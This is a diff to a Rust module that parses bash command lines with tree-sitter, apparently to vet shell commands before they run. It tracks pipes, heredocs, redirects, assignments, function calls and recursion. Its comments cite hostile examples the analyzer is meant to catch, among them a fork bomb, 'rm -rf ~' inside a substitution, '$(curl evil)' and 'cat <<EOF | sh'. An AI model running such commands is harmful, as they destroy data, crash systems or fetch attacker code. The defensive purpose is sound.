@@ -1,19 +1,175 @@
 //! Bash command analyzer using tree-sitter-bash
 //!
-//! Walks the AST and extracts all commands with their arguments.
+//! Walks the AST and extracts all commands with their arguments, along with
+//! the control flow connecting them.
 
+use crate::quote::{decode_ansi_c, unescape_double_quoted, unescape_word};
+use std::collections::{HashMap, HashSet};
+use std::ops::Range;
 use tree_sitter::{Node, Parser};
 
+/// Upper bound on commands produced by expanding function calls
+const MAX_EXPANDED_COMMANDS: usize = 10_000;
+
 /// Represents a single command extracted from the AST
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, Default)]
 pub struct Command {
     /// The command name (e.g., "ls", "git")
     pub name: String,
-    /// All arguments including flags (e.g., ["-la", "/tmp"])
+    /// All arguments including flags, with quoting removed (e.g., ["-la", "/tmp"])
     pub args: Vec<String>,
+    /// Arguments as written in the source, for passing on to a wrapped command
+    pub raw_args: Vec<String>,
     /// The full command text (for debugging)
     #[allow(dead_code)]
     pub text: String,
+    /// File redirections applying to this command (e.g., `> out.txt`, `2>&1`)
+    pub redirects: Vec<Redirect>,
+    /// Whether the command name comes from an expansion (e.g., `$CMD`, `$(which rm)`)
+    /// and so can't be known before the command runs
+    pub dynamic_name: bool,
+    /// Whether each argument contains an expansion (`$VAR`, `$(...)`), whose
+    /// value is only known at runtime
+    pub dynamic_args: Vec<bool>,
+    /// Variables set by this command: prefix assignments (`PATH=/x make`),
+    /// declarations (`export A=1`) or standalone assignments (`A=1`)
+    pub assignments: Vec<Assignment>,
+    /// Data read from a pipe or a `while read` loop, which may name the files
+    /// the command acts on (`find . | xargs rm`)
+    pub stdin: Option<Stdin>,
+}
+
+impl Command {
+    /// Data redirected into the command's stdin (heredoc, here-string or `<` file)
+    pub fn input(&self) -> Option<&Input> {
+        self.stdin.as_ref()?.input.as_ref()
+    }
+
+    /// An argument as written in the source (falls back to the unquoted value)
+    pub fn raw_arg(&self, index: usize) -> &str {
+        self.raw_args
+            .get(index)
+            .or_else(|| self.args.get(index))
+            .map_or("", |a| a.as_str())
+    }
+
+    /// An argument as a shell running it receives it (`bash -c ARG`, `ssh host ARG`):
+    /// quotes removed, expansions left as written
+    pub fn arg_string(&self, index: usize) -> String {
+        crate::quote::unquote(self.raw_arg(index))
+    }
+
+    /// Whether an argument's value is only known at runtime
+    pub fn is_dynamic_arg(&self, index: usize) -> bool {
+        self.dynamic_args.get(index).copied().unwrap_or(false)
+    }
+
+    /// Whether this is a standalone assignment without a command (e.g., `A=$(ls)`)
+    pub fn is_assignment_only(&self) -> bool {
+        self.name.is_empty() && !self.assignments.is_empty()
+    }
+}
+
+/// Data a command reads from a pipe
+#[derive(Debug, Clone, Default)]
+pub struct Stdin {
+    /// Whether the command is part of a pipeline element after the first
+    pub piped: bool,
+    /// Index of the last command of the previous pipeline element (e.g., `find /tmp`)
+    pub producer: Option<usize>,
+    /// Variables set from the data by an enclosing `while read VAR` loop
+    pub variables: Vec<String>,
+    /// Whether that `read` splits the data at NULs (`read -d ''`)
+    pub null_separated: bool,
+    /// Data redirected into the command (`<<EOF`, `<<< text`, `< file`), or
+    /// passed on by a `cat` it reads from (`cat <<EOF | sh`)
+    pub input: Option<Input>,
+}
+
+/// Data a command reads from a redirect
+#[derive(Debug, Clone, PartialEq)]
+pub enum Input {
+    /// Heredoc or here-string content, as the command receives it
+    Text(String),
+    /// Heredoc or here-string content with expansions (`<<EOF` with `$X` in the
+    /// body), only known at runtime; as written, with `\` escapes removed
+    Dynamic(String),
+    /// A file read with `<` (quoting removed)
+    File(String),
+}
+
+/// A variable assignment attached to a command
+#[derive(Debug, Clone, PartialEq)]
+pub struct Assignment {
+    /// The variable name (e.g., "LD_PRELOAD")
+    pub name: String,
+    /// The assigned value with simple quoting removed
+    pub value: String,
+}
+
+/// A file redirection attached to a command
+#[derive(Debug, Clone, PartialEq)]
+pub struct Redirect {
+    /// The redirection operator (e.g., ">", ">>", "&>", "<", ">&")
+    pub operator: String,
+    /// The redirection target with simple quoting removed (e.g., "out.txt", "1", "-")
+    pub target: String,
+    /// The target as written in the source, so it can be expanded like the shell does
+    pub raw_target: String,
+}
+
+impl Redirect {
+    /// Whether this redirect writes to its target (as opposed to reading it)
+    pub fn is_write(&self) -> bool {
+        self.operator.contains('>')
+    }
+
+    /// Whether this redirect duplicates or closes a file descriptor (e.g., `2>&1`, `3>&-`)
+    pub fn is_fd_duplication(&self) -> bool {
+        matches!(self.operator.as_str(), ">&" | "<&" | ">&-" | "<&-")
+            && (self.target.is_empty()
+                || self.target == "-"
+                || self.target.chars().all(|c| c.is_ascii_digit()))
+    }
+}
+
+/// Control flow of a command line, referring to commands by their index in
+/// [`AnalysisResult::commands`]
+#[derive(Debug, Clone, PartialEq, Default)]
+pub enum Segment {
+    /// Runs nothing
+    #[default]
+    Empty,
+    /// A single command
+    Command(usize),
+    /// Segments run one after another (`a; b`, or `a | b` once each side is a subshell)
+    Sequence(Vec<Segment>),
+    /// `a && b`: the right side only runs if the left succeeds
+    And(Box<Segment>, Box<Segment>),
+    /// `a || b`: the right side only runs if the left fails
+    Or(Box<Segment>, Box<Segment>),
+    /// `if`/`case` branches, exactly one of which runs (an empty branch stands for no match)
+    Conditional(Vec<Segment>),
+    /// A loop body, run any number of times
+    Loop(Box<Segment>),
+    /// Runs in a child process (subshell, pipeline element, command or process
+    /// substitution), so `cd` inside it doesn't change the directory after it
+    Subshell(Box<Segment>),
+}
+
+impl Segment {
+    /// Build a sequence, dropping empty segments and unwrapping a single one
+    fn sequence(segments: Vec<Segment>) -> Segment {
+        let mut segments: Vec<Segment> = segments
+            .into_iter()
+            .filter(|s| *s != Segment::Empty)
+            .collect();
+        match segments.len() {
+            0 => Segment::Empty,
+            1 => segments.remove(0),
+            _ => Segment::Sequence(segments),
+        }
+    }
 }
 
 /// Result of analyzing a bash command
@@ -21,10 +177,33 @@ pub struct Command {
 pub struct AnalysisResult {
     /// All commands found (from pipelines, lists, etc.)
     pub commands: Vec<Command>,
+    /// How the commands are sequenced, nested and branched
+    pub flow: Segment,
     /// Whether parsing succeeded
     pub success: bool,
     /// Error message if parsing failed
     pub error: Option<String>,
+    /// A function that ends up calling itself (e.g., the fork bomb `:(){ :|:& };:`)
+    pub recursive_function: Option<String>,
+    /// Function calls left unexpanded after reaching MAX_EXPANDED_COMMANDS
+    pub expansion_limited: bool,
+    /// Variables the command line sets (assignments, `for` and `read` variables,
+    /// `unset`), whose values are only known once it runs
+    pub assigned: Vec<String>,
+}
+
+impl AnalysisResult {
+    fn failure(error: String) -> Self {
+        AnalysisResult {
+            commands: vec![],
+            flow: Segment::Empty,
+            success: false,
+            error: Some(error),
+            recursive_function: None,
+            expansion_limited: false,
+            assigned: vec![],
+        }
+    }
 }
 
 /// Analyze a bash command string and extract all commands
@@ -33,21 +212,13 @@ pub fn analyze(cmd: &str) -> AnalysisResult {
 
     let language = tree_sitter_bash::LANGUAGE;
     if let Err(e) = parser.set_language(&language.into()) {
-        return AnalysisResult {
-            commands: vec![],
-            success: false,
-            error: Some(format!("Failed to set language: {}", e)),
-        };
+        return AnalysisResult::failure(format!("Failed to set language: {}", e));
     }
 
     let tree = match parser.parse(cmd, None) {
         Some(tree) => tree,
         None => {
-            return AnalysisResult {
-                commands: vec![],
-                success: false,
-                error: Some("Failed to parse command".to_string()),
-            };
+            return AnalysisResult::failure("Failed to parse command".to_string());
         }
     };
 
@@ -55,21 +226,38 @@ pub fn analyze(cmd: &str) -> AnalysisResult {
 
     // Check for syntax errors in the parse tree
     if root.has_error() {
-        let error_msg = find_syntax_error(root, cmd.as_bytes());
-        return AnalysisResult {
-            commands: vec![],
-            success: false,
-            error: Some(error_msg),
-        };
+        return AnalysisResult::failure(find_syntax_error(root, cmd.as_bytes()));
     }
 
-    let mut commands = Vec::new();
-    walk_node(root, cmd.as_bytes(), &mut commands);
+    let mut walker = Walker {
+        source: cmd.as_bytes(),
+        functions: HashMap::new(),
+        expanded: HashSet::new(),
+        call_stack: Vec::new(),
+        recursive_function: None,
+        expansion_limited: false,
+        loop_variables: Vec::new(),
+        commands: Vec::new(),
+    };
+    walker.collect_functions(root);
+    let flow = walker.walk_node(root);
+    let uncalled = walker.walk_uncalled_functions();
+
+    let mut assigned = walker.loop_variables;
+    for cmd in &walker.commands {
+        assigned.extend(set_variables(cmd));
+    }
+    assigned.sort();
+    assigned.dedup();
 
     AnalysisResult {
-        commands,
+        commands: walker.commands,
+        flow: Segment::sequence(vec![flow, uncalled]),
         success: true,
         error: None,
+        recursive_function: walker.recursive_function,
+        expansion_limited: walker.expansion_limited,
+        assigned,
     }
 }
 
@@ -128,93 +316,812 @@ fn get_error_context(node: Node, source: &[u8]) -> String {
     }
 }
 
-/// Recursively walk the AST and collect commands
-fn walk_node(node: Node, source: &[u8], commands: &mut Vec<Command>) {
-    match node.kind() {
-        "command" => {
-            if let Some(cmd) = extract_command(node, source) {
-                commands.push(cmd);
-            }
-        }
-        // Recurse into container nodes
-        "program"
-        | "list"
-        | "pipeline"
-        | "compound_statement"
-        | "subshell"
-        | "if_statement"
-        | "while_statement"
-        | "for_statement"
-        | "case_statement"
-        | "redirected_statement"
-        | "negated_command"
-        | "do_group" => {
-            let mut cursor = node.walk();
-            for child in node.children(&mut cursor) {
-                walk_node(child, source, commands);
-            }
+/// Collect the variable assignments of a command, declaration or assignment list
+fn collect_assignments(node: Node, source: &[u8]) -> Vec<Assignment> {
+    if node.kind() == "variable_assignment" {
+        return vec![extract_assignment(node, source)];
+    }
+
+    let mut assignments = Vec::new();
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor) {
+        if matches!(child.kind(), "variable_assignment" | "variable_assignments") {
+            assignments.extend(collect_assignments(child, source));
         }
-        // Skip other node types
-        _ => {}
     }
+    assignments
 }
 
-/// Extract command name and arguments from a command node
-fn extract_command(node: Node, source: &[u8]) -> Option<Command> {
+/// Extract name and value from a variable_assignment node
+fn extract_assignment(node: Node, source: &[u8]) -> Assignment {
+    let name = node
+        .child_by_field_name("name")
+        .map(|n| get_text(n, source))
+        .unwrap_or_default();
+    let value = node
+        .child_by_field_name("value")
+        .map(|v| unquote(v, source))
+        .unwrap_or_default();
+    Assignment { name, value }
+}
+
+/// Extract a declaration builtin (`export`, `declare`, `local`, `readonly`, `typeset`)
+/// or `unset`
+fn extract_declaration(node: Node, source: &[u8]) -> Command {
     let mut name = String::new();
     let mut args = Vec::new();
+    let mut raw_args = Vec::new();
 
     let mut cursor = node.walk();
     for child in node.children(&mut cursor) {
-        match child.kind() {
-            "command_name" => {
-                name = get_text(child, source);
+        if !child.is_named() && name.is_empty() {
+            name = get_text(child, source);
+        } else if child.is_named() {
+            args.push(unquote(child, source));
+            raw_args.push(get_text(child, source));
+        }
+    }
+
+    Command {
+        name,
+        args,
+        raw_args,
+        text: get_text(node, source),
+        assignments: collect_assignments(node, source),
+        ..Default::default()
+    }
+}
+
+/// Walks the AST, collecting commands and building their control flow
+struct Walker<'a> {
+    source: &'a [u8],
+    /// Bodies of the functions defined anywhere in the script, by name
+    functions: HashMap<String, Vec<Node<'a>>>,
+    /// Functions whose body has been walked
+    expanded: HashSet<String>,
+    /// Functions currently being expanded
+    call_stack: Vec<String>,
+    /// The first function found calling itself
+    recursive_function: Option<String>,
+    /// Whether a function call was left unexpanded at MAX_EXPANDED_COMMANDS
+    expansion_limited: bool,
+    /// Variables set by `for` loops
+    loop_variables: Vec<String>,
+    commands: Vec<Command>,
+}
+
+impl<'a> Walker<'a> {
+    /// Collect the body of every function defined anywhere in the script
+    fn collect_functions(&mut self, node: Node<'a>) {
+        if node.kind() == "function_definition"
+            && let Some(name) = node.child_by_field_name("name")
+            && let Some(body) = node.child_by_field_name("body")
+        {
+            self.functions
+                .entry(get_text(name, self.source))
+                .or_default()
+                .push(body);
+        }
+
+        let mut cursor = node.walk();
+        for child in node.children(&mut cursor) {
+            self.collect_functions(child);
+        }
+    }
+
+    /// Walk the functions no direct call expanded, since `trap f EXIT`,
+    /// `eval f` or `xargs f` can still run them
+    fn walk_uncalled_functions(&mut self) -> Segment {
+        let mut names: Vec<String> = self.functions.keys().cloned().collect();
+        names.sort();
+        let mut segments = Vec::new();
+        for name in names {
+            if self.expanded.contains(&name) {
+                continue;
             }
-            "word"
-            | "string"
-            | "raw_string"
-            | "number"
-            | "concatenation"
-            | "simple_expansion"
-            | "expansion"
-            | "command_substitution" => {
-                // These are arguments
-                if child.is_named() {
-                    // Check if this is actually an argument field
-                    args.push(get_text(child, source));
+            let call = self.push_command(Command {
+                name,
+                ..Default::default()
+            });
+            segments.push(Segment::Conditional(vec![call, Segment::Empty]));
+        }
+        Segment::sequence(segments)
+    }
+
+    /// Recursively walk the AST, collecting commands
+    fn walk_node(&mut self, node: Node<'a>) -> Segment {
+        match node.kind() {
+            "command" => {
+                // Substitutions in the name or arguments (e.g., `echo $(rm -rf ~)`) run first
+                let mut segments = self.walk_assignment_values(node);
+                if let Some(mut cmd) = extract_command(node, self.source) {
+                    cmd.assignments = collect_assignments(node, self.source);
+                    let mut cursor = node.walk();
+                    for redirect in node.children_by_field_name("redirect", &mut cursor) {
+                        if let Some(input) = redirect_input(redirect, self.source) {
+                            cmd.stdin.get_or_insert_default().input = Some(input);
+                        }
+                    }
+                    segments.push(self.push_command(cmd));
                 }
+                Segment::sequence(segments)
             }
-            _ => {
-                // Handle nested literals in arguments
-                if child.is_named() {
-                    // Check parent field name
-                    let field_name = node.field_name_for_child(child.id() as u32);
-                    if field_name == Some("argument") {
-                        args.push(get_text(child, source));
+            "declaration_command" | "unset_command" => {
+                let mut segments = self.walk_assignment_values(node);
+                segments.push(self.push_command(extract_declaration(node, self.source)));
+                Segment::sequence(segments)
+            }
+            "variable_assignment" | "variable_assignments" => {
+                let mut segments = self.walk_assignment_values(node);
+                segments.push(self.push_command(Command {
+                    text: get_text(node, self.source),
+                    assignments: collect_assignments(node, self.source),
+                    ..Default::default()
+                }));
+                Segment::sequence(segments)
+            }
+            "redirected_statement" => self.walk_redirected_statement(node),
+            // Defining a function runs nothing; its body is expanded at each call
+            "function_definition" => Segment::Empty,
+            "list" | "pipeline" => {
+                let mut cursor = node.walk();
+                let children: Vec<Node> = node.named_children(&mut cursor).collect();
+                let mut starts = Vec::new();
+                let mut segments = Vec::new();
+                for child in children {
+                    starts.push(self.commands.len());
+                    segments.push(self.walk_node(child));
+                }
+                starts.push(self.commands.len());
+                self.combine(node, segments, &starts)
+            }
+            "subshell" | "command_substitution" | "process_substitution" => {
+                Segment::Subshell(Box::new(self.walk_children(node)))
+            }
+            "if_statement" => self.walk_if(node),
+            "while_statement" => {
+                // The condition is approximated as part of the loop
+                let start = self.commands.len();
+                let body = self.walk_children(node);
+                self.mark_read_loop(start);
+                Segment::Loop(Box::new(body))
+            }
+            "for_statement" | "c_style_for_statement" => {
+                if let Some(variable) = node.child_by_field_name("variable") {
+                    self.loop_variables.push(get_text(variable, self.source));
+                }
+                // The header (`for` values) is approximated as part of the loop
+                Segment::Loop(Box::new(self.walk_children(node)))
+            }
+            "case_statement" => {
+                let mut head = Vec::new();
+                let mut branches = Vec::new();
+                let mut cursor = node.walk();
+                for child in node.children(&mut cursor) {
+                    if child.kind() == "case_item" {
+                        branches.push(self.walk_children(child));
+                    } else {
+                        head.push(self.walk_node(child));
                     }
                 }
+                branches.push(Segment::Empty);
+                head.push(Segment::Conditional(branches));
+                Segment::sequence(head)
             }
+            // Everything else runs its children in order: compound statements,
+            // loop bodies, expansions inside double-quoted strings and unquoted
+            // heredocs, test expressions, ...
+            _ => self.walk_children(node),
         }
     }
 
-    // Also check for arguments using field iteration
-    for i in 0..node.child_count() {
-        if let Some(child) = node.child(i) {
-            if let Some(field) = node.field_name_for_child(i as u32) {
-                if field == "argument" && !args.iter().any(|a| a == &get_text(child, source)) {
-                    args.push(get_text(child, source));
+    /// Walk all children of a node in order
+    fn walk_children(&mut self, node: Node<'a>) -> Segment {
+        let mut segments = Vec::new();
+        let mut cursor = node.walk();
+        for child in node.children(&mut cursor) {
+            segments.push(self.walk_node(child));
+        }
+        Segment::sequence(segments)
+    }
+
+    /// Walk the children of a node, descending into assignments without treating
+    /// them as standalone (values like `$(curl evil)` run before the command)
+    fn walk_assignment_values(&mut self, node: Node<'a>) -> Vec<Segment> {
+        let mut segments = Vec::new();
+        let mut cursor = node.walk();
+        for child in node.children(&mut cursor) {
+            if matches!(child.kind(), "variable_assignment" | "variable_assignments") {
+                segments.extend(self.walk_assignment_values(child));
+            } else {
+                segments.push(self.walk_node(child));
+            }
+        }
+        segments
+    }
+
+    /// Walk an `if` statement: the condition, then either the `then` body or the
+    /// `elif`/`else` chain that follows it
+    fn walk_if(&mut self, node: Node<'a>) -> Segment {
+        let mut condition = Vec::new();
+        let mut body = Vec::new();
+        let mut elifs = Vec::new();
+        let mut otherwise = None;
+
+        let mut cursor = node.walk();
+        for (i, child) in node.children(&mut cursor).enumerate() {
+            if node.field_name_for_child(i as u32) == Some("condition") {
+                condition.push(child);
+            } else if child.kind() == "elif_clause" {
+                elifs.push(child);
+            } else if child.kind() == "else_clause" {
+                otherwise = Some(child);
+            } else if child.is_named() {
+                body.push(child);
+            }
+        }
+
+        // Walk in source order so command indices follow the text
+        let condition = self.walk_nodes(&condition);
+        let body = self.walk_nodes(&body);
+        let elifs: Vec<(Segment, Segment)> = elifs
+            .into_iter()
+            .map(|clause| self.walk_elif(clause))
+            .collect();
+        let mut tail = match otherwise {
+            Some(clause) => self.walk_children(clause),
+            None => Segment::Empty,
+        };
+        for (elif_condition, elif_body) in elifs.into_iter().rev() {
+            tail = Segment::sequence(vec![
+                elif_condition,
+                Segment::Conditional(vec![elif_body, tail]),
+            ]);
+        }
+
+        Segment::sequence(vec![condition, Segment::Conditional(vec![body, tail])])
+    }
+
+    /// Walk an `elif` clause into its condition and body (split at `then`)
+    fn walk_elif(&mut self, clause: Node<'a>) -> (Segment, Segment) {
+        let mut condition = Vec::new();
+        let mut body = Vec::new();
+        let mut in_body = false;
+
+        let mut cursor = clause.walk();
+        for child in clause.children(&mut cursor) {
+            if child.kind() == "then" {
+                in_body = true;
+            } else if child.is_named() && in_body {
+                body.push(child);
+            } else if child.is_named() {
+                condition.push(child);
+            }
+        }
+
+        (self.walk_nodes(&condition), self.walk_nodes(&body))
+    }
+
+    /// Combine the walked elements of a list (`a && b`, `a || b`) or pipeline
+    /// (`a | b`, each side running in its own subshell)
+    /// `starts` holds the index of the first command of each element, then the end
+    fn combine(&mut self, node: Node, mut segments: Vec<Segment>, starts: &[usize]) -> Segment {
+        if node.kind() == "pipeline" {
+            self.mark_pipeline(starts);
+            let segments = segments
+                .into_iter()
+                .map(|s| Segment::Subshell(Box::new(s)))
+                .collect();
+            return Segment::sequence(segments);
+        }
+
+        let operator = (0..node.child_count())
+            .filter_map(|i| node.child(i))
+            .find(|c| !c.is_named())
+            .map(|c| get_text(c, self.source));
+        if segments.len() == 2 {
+            let right = Box::new(segments.pop().unwrap_or_default());
+            let left = Box::new(segments.pop().unwrap_or_default());
+            match operator.as_deref() {
+                Some("&&") => return Segment::And(left, right),
+                Some("||") => return Segment::Or(left, right),
+                _ => segments = vec![*left, *right],
+            }
+        }
+        Segment::sequence(segments)
+    }
+
+    /// Record that each pipeline element reads the output of the one before it
+    /// An element already reading a nested pipeline keeps that producer
+    fn mark_pipeline(&mut self, starts: &[usize]) {
+        for element in 1..starts.len().saturating_sub(1) {
+            let (previous, start, end) =
+                (starts[element - 1], starts[element], starts[element + 1]);
+            let producer = start.checked_sub(1).filter(|&p| p >= previous);
+            self.pipe_into(producer, start..end);
+        }
+    }
+
+    /// Record that the commands in `range` read the output of command `producer`
+    /// `cat` without files passes its own input on (`cat <<EOF | sh`)
+    fn pipe_into(&mut self, producer: Option<usize>, range: Range<usize>) {
+        let passed = producer
+            .map(|p| &self.commands[p])
+            .filter(|p| p.name == "cat" && p.args.is_empty())
+            .and_then(|p| p.stdin.as_ref()?.input.clone());
+        for cmd in &mut self.commands[range] {
+            let stdin = cmd.stdin.get_or_insert_default();
+            if !stdin.piped {
+                stdin.piped = true;
+                stdin.producer = producer;
+                if stdin.input.is_none() {
+                    stdin.input = passed.clone();
+                }
+            }
+        }
+    }
+
+    /// Record the variables a `while read VAR` loop (starting at command `start`)
+    /// sets from its input on the commands after the `read`
+    fn mark_read_loop(&mut self, start: usize) {
+        let Some(offset) = self.commands[start..].iter().position(|c| c.name == "read") else {
+            return;
+        };
+        let read = start + offset;
+        let mut variables = read_variables(&self.commands[read].args);
+        let read_args = &self.commands[read].args;
+        let null_separated = read_args
+            .iter()
+            .rposition(|a| a == "-d")
+            .and_then(|i| read_args.get(i + 1))
+            .is_some_and(|delimiter| delimiter.is_empty() || delimiter == "\0");
+        // A variable reassigned in the loop no longer holds the data
+        let body = &self.commands[read + 1..];
+        variables.retain(|v| {
+            !body
+                .iter()
+                .any(|c| c.assignments.iter().any(|a| &a.name == v))
+        });
+        for cmd in &mut self.commands[read + 1..] {
+            let stdin = cmd.stdin.get_or_insert_default();
+            stdin.variables.extend(variables.iter().cloned());
+            stdin.null_separated = null_separated;
+        }
+    }
+
+    /// Walk a list of nodes in order
+    fn walk_nodes(&mut self, nodes: &[Node<'a>]) -> Segment {
+        let segments = nodes.iter().map(|node| self.walk_node(*node)).collect();
+        Segment::sequence(segments)
+    }
+
+    /// Add a command, replacing calls to functions defined in the script with their body
+    fn push_command(&mut self, cmd: Command) -> Segment {
+        let bodies = match self.functions.get(&cmd.name) {
+            Some(bodies) if !cmd.dynamic_name => bodies.clone(),
+            _ => {
+                self.commands.push(cmd);
+                return Segment::Command(self.commands.len() - 1);
+            }
+        };
+        if self.call_stack.contains(&cmd.name) {
+            self.recursive_function.get_or_insert(cmd.name);
+            return Segment::Empty;
+        }
+        if self.commands.len() >= MAX_EXPANDED_COMMANDS {
+            self.expansion_limited = true;
+            return Segment::Empty;
+        }
+
+        // A function defined more than once runs one of its bodies
+        self.expanded.insert(cmd.name.clone());
+        self.call_stack.push(cmd.name);
+        let branches: Vec<Segment> = bodies.into_iter().map(|b| self.walk_node(b)).collect();
+        self.call_stack.pop();
+
+        if branches.len() == 1 {
+            Segment::sequence(branches)
+        } else {
+            Segment::Conditional(branches)
+        }
+    }
+
+    /// Walk a redirected statement and attach its redirects to every command in the body
+    /// A bare redirection (e.g., `> file`) behaves like the null command `:`
+    fn walk_redirected_statement(&mut self, node: Node<'a>) -> Segment {
+        let body = node.child_by_field_name("body");
+        let (mut segment, start) = match body {
+            Some(body) => self.walk_redirect_body(body),
+            None => (Segment::Empty, self.commands.len()),
+        };
+
+        let mut redirect_nodes = Vec::new();
+        let mut redirects = Vec::new();
+        let mut input = None;
+        let mut cursor = node.walk();
+        for child in node.children_by_field_name("redirect", &mut cursor) {
+            collect_redirects(child, self.source, &mut redirects);
+            input = redirect_input(child, self.source).or(input);
+            redirect_nodes.push(child);
+        }
+
+        if body.is_none() && !redirects.is_empty() {
+            self.commands.push(Command {
+                name: ":".to_string(),
+                text: get_text(node, self.source),
+                ..Default::default()
+            });
+            segment = Segment::Command(self.commands.len() - 1);
+        }
+
+        for cmd in &mut self.commands[start..] {
+            cmd.redirects.extend(redirects.iter().cloned());
+            if input.is_some() {
+                cmd.stdin.get_or_insert_default().input = input.clone();
+            }
+        }
+
+        // Substitutions in redirect targets or heredoc bodies (e.g., `> $(mktemp)`)
+        let body_end = self.commands.len();
+        let mut segments = vec![segment];
+        for child in redirect_nodes {
+            segments.push(self.walk_heredoc_continuation(child, body_end));
+        }
+        Segment::sequence(segments)
+    }
+
+    /// Walk a redirect node of a statement whose commands end at `body_end`
+    ///
+    /// tree-sitter nests what follows a heredoc start on its line inside the
+    /// heredoc (`cat <<EOF | sh`); a pipeline there reads the statement's output.
+    fn walk_heredoc_continuation(&mut self, node: Node<'a>, body_end: usize) -> Segment {
+        let mut segments = Vec::new();
+        let mut cursor = node.walk();
+        for child in node.children(&mut cursor) {
+            let start = self.commands.len();
+            let segment = self.walk_node(child);
+            if child.kind() == "pipeline" && node.kind() == "heredoc_redirect" {
+                let producer = body_end.checked_sub(1);
+                let end = self.commands.len();
+                self.pipe_into(producer, start..end);
+                segments.push(Segment::Subshell(Box::new(segment)));
+            } else {
+                segments.push(segment);
+            }
+        }
+        Segment::sequence(segments)
+    }
+
+    /// Walk the body of a redirected statement, also returning the index of the
+    /// first command the redirects apply to
+    ///
+    /// tree-sitter attaches a trailing redirect to a whole list or pipeline
+    /// (`a && b > f`), but the shell binds it to the last element only.
+    /// Compound statements and subshells redirect every command inside them.
+    fn walk_redirect_body(&mut self, body: Node<'a>) -> (Segment, usize) {
+        if matches!(body.kind(), "list" | "pipeline") {
+            let mut cursor = body.walk();
+            let children: Vec<Node> = body.named_children(&mut cursor).collect();
+            if let Some((last, rest)) = children.split_last() {
+                let mut starts = Vec::new();
+                let mut segments = Vec::new();
+                for child in rest {
+                    starts.push(self.commands.len());
+                    segments.push(self.walk_node(*child));
                 }
+                starts.push(self.commands.len());
+                let (last, start) = self.walk_redirect_body(*last);
+                segments.push(last);
+                starts.push(self.commands.len());
+                return (self.combine(body, segments, &starts), start);
             }
         }
+
+        let start = self.commands.len();
+        (self.walk_node(body), start)
+    }
+}
+
+/// Variables a command sets or clears when it runs: assignments, `read`,
+/// `mapfile`, `getopts`, `printf -v`, `local`/`declare` (which reset them in a
+/// function) and `unset`
+pub fn set_variables(cmd: &Command) -> Vec<String> {
+    let mut names: Vec<String> = cmd.assignments.iter().map(|a| a.name.clone()).collect();
+    let operands = || cmd.args.iter().filter(|a| !a.starts_with('-')).cloned();
+    match cmd.name.as_str() {
+        "read" => names.extend(read_variables(&cmd.args)),
+        "mapfile" | "readarray" => names.push(
+            operands()
+                .next_back()
+                .unwrap_or_else(|| "MAPFILE".to_string()),
+        ),
+        "getopts" => names.extend(operands().nth(1)),
+        "printf" => names.extend(
+            cmd.args
+                .iter()
+                .position(|a| a == "-v")
+                .and_then(|i| cmd.args.get(i + 1))
+                .cloned(),
+        ),
+        "unset" => names.extend(operands()),
+        "local" | "declare" | "typeset" => {
+            names.extend(operands().filter_map(|a| a.split('=').next().map(String::from)))
+        }
+        _ => {}
     }
+    names
+}
 
+/// Variables set by `read [options] [NAME...]` (`REPLY` without names)
+fn read_variables(args: &[String]) -> Vec<String> {
+    let mut names = Vec::new();
+    let mut skip_next = false;
+    for arg in args {
+        if skip_next {
+            skip_next = false;
+        } else if matches!(
+            arg.as_str(),
+            "-a" | "-d" | "-i" | "-n" | "-N" | "-p" | "-t" | "-u"
+        ) {
+            skip_next = true;
+        } else if !arg.starts_with('-') {
+            names.push(arg.clone());
+        }
+    }
+    if names.is_empty() {
+        names.push("REPLY".to_string());
+    }
+    names
+}
+
+/// The data a redirect feeds to stdin: heredoc or here-string content, or a `<` file
+fn redirect_input(node: Node, source: &[u8]) -> Option<Input> {
+    let mut cursor = node.walk();
+    let children: Vec<Node> = node.children(&mut cursor).collect();
+    match node.kind() {
+        "heredoc_redirect" => {
+            let body = children.iter().find(|c| c.kind() == "heredoc_body");
+            let body = body.map(|b| get_text(*b, source)).unwrap_or_default();
+            let delimiter = children.iter().find(|c| c.kind() == "heredoc_start");
+            let delimiter = delimiter.map(|d| get_text(*d, source)).unwrap_or_default();
+            let strip_tabs = children.iter().any(|c| c.kind() == "<<-");
+            let (text, dynamic) =
+                heredoc_text(&body, delimiter.contains(['\'', '"', '\\']), strip_tabs);
+            Some(if dynamic {
+                Input::Dynamic(text)
+            } else {
+                Input::Text(text)
+            })
+        }
+        "herestring_redirect" => {
+            let word = children.iter().find(|c| c.is_named())?;
+            Some(if contains_expansion(*word) {
+                let text = crate::quote::unquote(&get_text(*word, source));
+                Input::Dynamic(format!("{}\n", text))
+            } else {
+                Input::Text(format!("{}\n", unquote_literal(*word, source)))
+            })
+        }
+        "file_redirect" => {
+            let operator = children.iter().find(|c| !c.is_named())?;
+            let target = children
+                .iter()
+                .find(|c| c.is_named() && c.kind() != "file_descriptor")?;
+            let reads_stdin = children
+                .iter()
+                .all(|c| c.kind() != "file_descriptor" || get_text(*c, source) == "0");
+            (get_text(*operator, source) == "<" && reads_stdin)
+                .then(|| Input::File(unquote(*target, source)))
+        }
+        _ => None,
+    }
+}
+
+/// Heredoc content as the command reads it: with an unquoted delimiter the
+/// shell removes `\` before `$`, `` ` ``, `\` and newlines; `<<-` strips leading tabs
+/// Also returns whether the shell expands anything in it (an unescaped `$` or `` ` ``)
+fn heredoc_text(body: &str, quoted: bool, strip_tabs: bool) -> (String, bool) {
+    let mut text = String::new();
+    let mut dynamic = false;
+    if quoted {
+        text.push_str(body);
+    } else {
+        let mut chars = body.chars().peekable();
+        while let Some(c) = chars.next() {
+            match (c, chars.peek()) {
+                ('\\', Some('\n')) => {
+                    chars.next();
+                }
+                ('\\', Some(&next @ ('$' | '`' | '\\'))) => {
+                    text.push(next);
+                    chars.next();
+                }
+                _ => {
+                    dynamic |= matches!(c, '$' | '`');
+                    text.push(c);
+                }
+            }
+        }
+    }
+    if strip_tabs {
+        text = text
+            .split_inclusive('\n')
+            .map(|line| line.trim_start_matches('\t'))
+            .collect();
+    }
+    (text, dynamic)
+}
+
+/// Collect file redirects from a redirect node (heredocs may carry a nested file redirect)
+fn collect_redirects(node: Node, source: &[u8], redirects: &mut Vec<Redirect>) {
+    match node.kind() {
+        "file_redirect" => {
+            let mut operator = String::new();
+            let mut target = String::new();
+            let mut raw_target = String::new();
+            let mut cursor = node.walk();
+            for child in node.children(&mut cursor) {
+                if !child.is_named() {
+                    operator.push_str(&get_text(child, source));
+                } else if child.kind() == "process_substitution" {
+                    // `> >(tee f)` writes to a pipe; the commands inside are analyzed
+                    return;
+                } else if child.kind() != "file_descriptor" {
